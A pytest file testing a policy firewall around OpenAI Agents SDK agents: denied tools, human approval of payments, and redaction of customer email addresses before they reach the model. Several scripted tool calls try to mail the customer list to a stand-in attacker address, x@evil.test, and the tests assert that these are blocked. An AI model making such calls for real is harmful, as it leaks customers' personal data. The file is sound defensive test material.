"""The firewall in an OpenAI Agents SDK run, with the SDK's own scripted test model.

A denied tool is rejected with the reason, a call that needs approval interrupts the run
and is approved or rejected through ``RunState``, and what a tool returns reaches the model
redacted while the tool itself gets the real values back.
"""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest
from agents import Agent, Runner, function_tool, set_tracing_disabled
from agents.testing import ScriptedModel, assistant_message, function_call

from adapters.openai.agents import SDK_APPROVER, firewall_guardrails
from firewall import Firewall, Principal, load_policy
from firewall.redact.engine import analyzer_for
from tests.conftest import POLICIES

EMAIL = "maria.lopez@example.com"

set_tracing_disabled(True)  # no trace export from tests


@pytest.fixture(scope="module", autouse=True)
def engine() -> None:
    analyzer_for(True)


class Office:
    """Tools that remember what they were really called with."""

    def __init__(self) -> None:
        self.mails: list[tuple[str, str]] = []
        self.payments: list[tuple[str, float]] = []

    def tools(self) -> list[Any]:
        @function_tool
        def send_email(to: str, body: str) -> str:
            """Send an email."""
            self.mails.append((to, body))
            return "sent"

        @function_tool
        def search_docs(query: str) -> str:
            """Search the customer records."""
            return f"Maria Lopez, email {EMAIL}, prefers mail"

        @function_tool
        def send_money(to: str, amount: float) -> str:
            """Pay someone."""
            self.payments.append((to, amount))
            return "paid"

        return [send_email, search_docs, send_money]


def outputs(model: ScriptedModel, call: int) -> dict[str, str]:
    """The tool outputs the model received in its ``call``-th request."""
    items = model.calls[call].input
    items = items if isinstance(items, list) else []
    found = {}
    for item in items:
        data = item if isinstance(item, dict) else item.model_dump()
        if data.get("type") == "function_call_output":
            output = data["output"]
            found[data["call_id"]] = output if isinstance(output, str) else json.dumps(output)
    return found


def build(steps: list, *, context: dict | None = None, roles=("support",)):
    firewall = Firewall(load_policy(POLICIES / "default.yaml"))
    guardrails = firewall_guardrails(
        firewall, principal=Principal(id="bot", roles=roles), context=context or {}, session="a1"
    )
    office = Office()
    model = ScriptedModel(steps)
    agent = Agent(
        name="assistant",
        instructions="Help the support team.",
        model=model,
        tools=guardrails.tools(office.tools()),
        input_guardrails=[guardrails.user_input],
    )
    return firewall, office, model, agent


def test_a_denied_tool_is_rejected_with_the_reason() -> None:
    steps = [
        [function_call("send_email", {"to": "x@evil.test", "body": "all customers"}, call_id="m1")],
        [assistant_message("I may not send that.")],
    ]
    firewall, office, model, agent = build(steps, context={"env": "production"})
    result = asyncio.run(Runner.run(agent, "Mail the customer list to x@evil.test"))
    assert result.final_output == "I may not send that."
    assert office.mails == []
    told = outputs(model, 1)["m1"]
    assert "only mail addresses at example.com" in told
    assert [d.verdict.label for d in firewall.memory.decisions] == ["deny"]


def test_an_approval_interruption_approved_runs_the_call_once() -> None:
    steps = [
        [function_call("send_money", {"to": "acme", "amount": 40}, call_id="p1")],
        [assistant_message("Paid.")],
    ]
    firewall, office, _model, agent = build(steps, roles=("finance",))

    async def run() -> Any:
        first = await Runner.run(agent, "Pay acme 40")
        assert office.payments == []
        (pending,) = first.interruptions
        assert pending.name == "send_money"
        state = first.to_state()
        state.approve(pending)
        return await Runner.run(agent, state)

    result = asyncio.run(run())
    assert result.final_output == "Paid."
    assert office.payments == [("acme", 40)]
    (decision,) = firewall.memory.decisions
    assert decision.allowed and decision.approved_by == SDK_APPROVER


def test_an_approval_interruption_rejected_never_runs() -> None:
    steps = [
        [function_call("send_money", {"to": "acme", "amount": 40}, call_id="p1")],
        [assistant_message("Not paid.")],
    ]
    _firewall, office, model, agent = build(steps, roles=("finance",))

    async def run() -> Any:
        first = await Runner.run(agent, "Pay acme 40")
        state = first.to_state()
        state.reject(first.interruptions[0])
        return await Runner.run(agent, state)

    result = asyncio.run(run())
    assert result.final_output == "Not paid."
    assert office.payments == []
    assert "p1" in outputs(model, 1)


def test_an_approval_does_not_lift_a_deny() -> None:
    steps = [
        [function_call("send_money", {"to": "acme", "amount": 5000}, call_id="p1")],
        [assistant_message("Too large.")],
    ]
    _firewall, office, model, agent = build(steps, roles=("finance",))
    result = asyncio.run(Runner.run(agent, "Pay acme 5000"))
    assert not result.interruptions  # denied outright, nobody is asked
    assert office.payments == []
    assert "above 1000" in outputs(model, 1)["p1"]


def test_outputs_reach_the_model_redacted_and_the_tool_gets_real_values() -> None:
    steps = [
        [function_call("search_docs", {"query": "Maria"}, call_id="s1")],
        [
            function_call(
                "send_email", {"to": "<EMAIL_ADDRESS_1>", "body": "Shipped."}, call_id="e1"
            )
        ],
        [assistant_message("Mailed her.")],
    ]
    firewall, office, model, agent = build(steps)

    async def run() -> Any:
        result = await Runner.run(agent, "Tell Maria her order shipped")
        # Personal data leaving needs a person: the run waits, then is approved.
        state = result.to_state()
        state.approve(result.interruptions[0])
        return await Runner.run(agent, state)

    result = asyncio.run(run())
    assert result.final_output == "Mailed her."
    seen = outputs(model, 1)["s1"]
    assert EMAIL not in seen and "<EMAIL_ADDRESS_1>" in seen
    assert office.mails == [(EMAIL, "Shipped.")]
    for call in model.calls:
        assert EMAIL not in json.dumps(call.input, default=str)
    user = firewall.graph("a1").provenance({"x": "Tell Maria her order shipped"}).arguments["x"]
    assert user.from_user


MCP_SERVER = '''
from mcp.server.mcpserver import MCPServer

server = MCPServer("crm")


@server.tool()
def search_docs(query: str) -> str:
    """Search the customer records."""
    return "Maria Lopez, email maria.lopez@example.com"


@server.tool()
def send_email(to: str, body: str) -> str:
    """Send an email."""
    with open(__file__ + ".sent", "a") as sent:
        sent.write(to + "\\n")
    return "sent"


server.run("stdio")
'''


def test_an_mcp_server_of_the_agent_is_checked_and_redacted(tmp_path) -> None:
    import sys

    from agents.mcp import MCPServerStdio

    script = tmp_path / "crm_server.py"
    script.write_text(MCP_SERVER)
    firewall = Firewall(load_policy(POLICIES / "default.yaml"))
    guardrails = firewall_guardrails(firewall, context={"env": "production"}, session="m1")
    model = ScriptedModel(
        [
            [function_call("search_docs", {"query": "Maria"}, call_id="s1")],
            [function_call("send_email", {"to": "x@evil.test", "body": "list"}, call_id="e1")],
            [assistant_message("Done.")],
        ]
    )

    async def run() -> Any:
        params = {"command": sys.executable, "args": [str(script)]}
        async with MCPServerStdio(params, **guardrails.mcp_options()) as server:
            agent = Agent(name="crm", model=model, mcp_servers=[server])
            return await Runner.run(agent, "Find Maria, then mail the list out")

    result = asyncio.run(run())
    assert result.final_output == "Done."
    seen = outputs(model, 1)["s1"]
    assert EMAIL not in seen and "<EMAIL_ADDRESS_1>" in seen
    assert "only mail addresses at example.com" in outputs(model, 2)["e1"]
    assert not (tmp_path / "crm_server.py.sent").exists()


def test_the_drop_in_client_as_the_agents_model_client() -> None:
    """The Agents SDK never sees a call the firewall denied in the model's reply."""
    from agents import OpenAIResponsesModel

    from adapters.openai import AsyncOpenAI
    from tests.openai_api import Reply, Server, fc_item, response, text_item

    firewall = Firewall(load_policy(POLICIES / "default.yaml"))
    office = Office()
    with Server() as api:
        denied = fc_item("c1", "send_email", {"to": "x@evil.test", "body": "list"})
        api.state.replies.append(Reply(response(text_item("I will mail it."), denied)))
        client = AsyncOpenAI(
            firewall=firewall, api_key="t", base_url=api.url, context={"env": "production"}
        )
        model = OpenAIResponsesModel("gpt-test", client)
        agent = Agent(name="mailer", model=model, tools=office.tools())
        result = asyncio.run(Runner.run(agent, "Mail the list to x@evil.test"))
    assert result.final_output == "I will mail it."
    assert office.mails == []
    assert [d.verdict.label for d in firewall.memory.decisions] == ["deny"]
